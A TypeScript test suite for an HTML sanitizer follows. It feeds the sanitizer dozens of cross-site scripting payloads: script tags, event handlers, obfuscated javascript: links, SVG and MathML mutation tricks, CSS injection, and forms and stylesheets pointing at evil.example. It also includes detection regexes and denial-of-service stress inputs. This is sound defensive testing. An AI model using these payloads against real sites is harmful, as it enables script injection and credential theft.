import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HTML_CHARS_MAX } from './safe-html.ts';
import { sanitizeHtml } from './sanitize.ts';

/** Checks that output holds no dangerous markup. Text is escaped, so a tag within text shows as `&lt;`. */
function expectHarmless(html: string) {
  expect(html).not.toMatch(/<\s*\/?\s*(?!\/?(?:[a-z][a-z0-9]*)[\s/>])/i);
  expect(html).not.toMatch(
    /<(?:script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link|template)\b/i,
  );
  for (const tag of html.match(/<[^>]*>/g) ?? []) {
    expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
    expect(tag).not.toMatch(/(?:href|src)="\s*(?:javascript|vbscript|data:text|blob|file)/i);
    expect(tag).not.toMatch(/\s(?:id|name|srcset|srcdoc|formaction|action|background|poster|ping|xlink:href)=/i);
    expect(tag).not.toMatch(/url\(|expression|position\s*:|@import|behavior|-moz-binding/i);
  }
}

describe('sanitizeHtml', () => {
  it.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" ONERROR\n=\n"alert(1)">',
    '<img/src="x"/onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="blob:https://a.example/x">x</a>',
    '<a href="/relative">x</a><a href="//host.example">x</a><a href="x.html">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="data:text/html;base64,AAAA">',
    '<img srcset="https://evil.example/x.png 1x">',
    '<img src="javascript:alert(1)" data-src="javascript:alert(2)">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x"><applet code="x"></applet>',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form action="https://evil.example"><input name=password><button formaction=x>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="background:u\\72l(https://evil.example/x)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="width:exp/**/ression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<div style="margin-top:-500px">x</div>',
    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</div>',
    '<div style="color:red;x:&quot;}</style><script>alert(1)</script>">x</div>',
    '<div id="root" name="body" class="modal fixed">x</div>',
    '<template><img src=x onerror=alert(1)></template>',
    '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
    '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><?php echo 1 ?>',
    '<a href="https://a.example" onclick="x" target="_top" rel="opener" ping="https://evil.example">x</a>',
    '<table background="https://evil.example/x.png"><tr><td background="x">x</td></tr></table>',
    '<video poster="x" src="x" onerror=alert(1)></video><audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<img src="cid:x" alt="`onerror=alert(1)">',
    '<<img src=x onerror=alert(1)//<b>',
    '<a href="https://a.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  ])('disarms %s', (html) => {
    const clean = sanitizeHtml(html);
    expectHarmless(clean.replace(/="[^"]*"/g, (value) => value.replace(/\son[a-z]+\s*=/gi, ' ')));
    expect(sanitizeHtml(clean)).toBe(clean);
  });

  it.each([
    [
      '<p>A <b>bold</b> <a href="https://a.example/?a=1&amp;b=2">link</a></p>',
      '<p>A <b>bold</b> ' +
        '<a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">link</a></p>',
    ],
    [
      '<a href="mailto:a@example.com">x</a>',
      '<a href="mailto:a@example.com" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    ],
    ['<img src="cid:one@x" alt="a">', '<img alt="a" src="cid:one@x" />'],
    ['<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA" />'],
    ['<img src="https://a.example/x.png">', '<img data-src="https://a.example/x.png" />'],
    ['<img src="//a.example/x.png">', '<img data-src="https://a.example/x.png" />'],
    [
      '<span style="color: #FF0000; font-family:\'Arial\', sans-serif; position: absolute">x</span>',
      '<span style="color:#FF0000;font-family:\'Arial\', sans-serif">x</span>',
    ],
    ['<div class="gmail_quote big">x</div>', '<div class="gmail_quote">x</div>'],
    ['<td bgcolor="#fff" width="10">x</td>', '<td bgcolor="#fff" width="10">x</td>'],
    ['<style>p{}</style><title>t</title>a < b & c', 'a &lt; b &amp; c'],
    ['<p>open <b>tags', '<p>open <b>tags</b></p>'],
    ['a\0b', 'ab'],
  ])('keeps the safe parts of %s', (html, expected) => {
    expect(sanitizeHtml(html)).toBe(expected);
  });

  it('is harmless and idempotent for any markup', () => {
    const pieces = fc.constantFrom(
      ...[
        '<',
        '>',
        '</',
        '/>',
        '"',
        "'",
        '=',
        ' ',
        '<!--',
        '-->',
        '<![CDATA[',
        'svg',
        'math',
        'style',
        'script',
        'img',
      ],
      ...[
        'src',
        'href',
        'javascript:',
        'onerror',
        'a',
        'p',
        'table',
        'title',
        'template',
        '&lt;',
        '&#x3c;',
        '&quot;',
        'x',
      ],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (list) => {
        const clean = sanitizeHtml(list.join(''));
        expect(clean).not.toMatch(/<(?:script|style|svg|math|template|title)/i);
        expect(clean.replace(/="[^"]*"/g, '')).not.toMatch(/<[^>]*onerror/i);
        expect(sanitizeHtml(clean)).toBe(clean);
      }),
      { numRuns: 2_000 },
    );
  });

  it.each([
    ['nested div', '<div>'.repeat(500_000)],
    ['div nested as deep as the parser goes', `${'<div>'.repeat(4_900)}${'</div>'.repeat(4_900)}`.repeat(18)],
    ['nested b and text', '<b>x'.repeat(300_000)],
    ['closing tags', '</p>'.repeat(300_000)],
    ['attributes', `<p ${'a=b '.repeat(250_000)}>`],
    ['styles', `<p style="${'color:red;'.repeat(90_000)}">`],
    ['small styles', '<p style="color:red;margin:0">x</p>'.repeat(30_000)],
    ['open comments', '<!--'.repeat(250_000)],
    ['entities', '&#106;'.repeat(160_000)],
    ['open brackets', '<'.repeat(1_000_000)],
    ['open brackets apart', '< '.repeat(500_000)],
    ['closing brackets', '>'.repeat(1_000_000)],
    ['ampersands', '&'.repeat(1_000_000)],
    ['crossed tags', '<b><i></b></i>'.repeat(71_000)],
    ['end tags of elements that are not open', `${'<b>'.repeat(4_900)}${'</i>'.repeat(95_000)}`],
    ['end tags in attributes', `${'<b title="</b>">'.repeat(30_000)}${'</i>'.repeat(60_000)}`],
    ['end tags of elements that stay open', `${'<b>'.repeat(4_900)}${'</i>'.repeat(4_900)}`.repeat(25)],
    ['different attributes', `<p ${Array.from({ length: 110_000 }, (_, index) => `a${index}`).join(' ')}>`],
    ['breaks', '<br>'.repeat(250_000)],
    ['links of ampersands', '<a href="https://a.example/?&&&&&&&&">&</a>'.repeat(22_000)],
    ['data images', `<img src="data:image/png;base64,${'A'.repeat(900_000)}">`],
    ['input far over the limit', 'x'.repeat(HTML_CHARS_MAX * 5)],
  ])('takes bounded time and stack for %s', (_name, html) => {
    // Takes 0.1 to 0.5 s on an idle machine. A quadratic step would exceed the test timeout.
    expect(sanitizeHtml(html).length).toBeLessThanOrEqual(HTML_CHARS_MAX);
  });

  it('drops the tags and keeps the text of HTML with too many tags', () => {
    expect(sanitizeHtml(`<p>first</p>${'<b></b>'.repeat(60_000)}<script>last</script> &lt;b&gt; 1 < 2`)).toMatch(
      /^first<br \/>\nlast +&lt;b&gt; 1 +2$/,
    );
  });

  it.each([
    ['in text', `<div><p>${'"&"<b>'.repeat(90_000)}`],
    ['in an attribute', `<div><p><i title="${'&'.repeat(400_000)}">x</i></p>`.repeat(2)],
  ])('cuts a long result between tags and entities: %s', (_name, html) => {
    const clean = sanitizeHtml(html);
    expect(clean.length).toBeLessThanOrEqual(HTML_CHARS_MAX);
    expect(clean).not.toMatch(/&amp;a?m?p?;?<|&amp;amp;/);
    expect(sanitizeHtml(clean)).toBe(clean);
  });
});

it('keeps mentions only in HTML by members', () => {
  const id = '0190a1b2-0000-7000-8000-0000000000aB';
  const html = `<span style="color:red" class="gmail_quote mention x" data-user="${id}" onclick="x()">@Ann</span>`;
  const kept = sanitizeHtml(html, { keepsMentions: true });
  expect(kept).toBe(`<span class="mention" data-user="${id.toLowerCase()}" style="color:red">@Ann</span>`);
  expect(sanitizeHtml(kept, { keepsMentions: true })).toBe(kept);
  expect(sanitizeHtml(html)).toBe('<span class="gmail_quote" style="color:red">@Ann</span>');
  expect(sanitizeHtml('<span class="mention" data-user="1">a</span>', { keepsMentions: true })).toBe('<span>a</span>');
  expect(sanitizeHtml(`<b class="mention" data-user="${id}">a</b>`, { keepsMentions: true })).toBe('<b>a</b>');
});

it('a cell spans at most a hundred columns or rows, as a browser makes each of them', () => {
  const cell = (spans: string) => `<table><tr><td ${spans}>a</td></tr></table>`;
  expect(sanitizeHtml(cell('colspan="1000" rowspan="65534"'))).toBe(cell('colspan="100" rowspan="100"'));
  expect(sanitizeHtml(cell('colspan=" +999x" rowspan="2"'))).toBe(cell('colspan="100" rowspan="2"'));
  expect(sanitizeHtml('<table><colgroup span="999"></colgroup></table>')).toContain('span="100"');
});
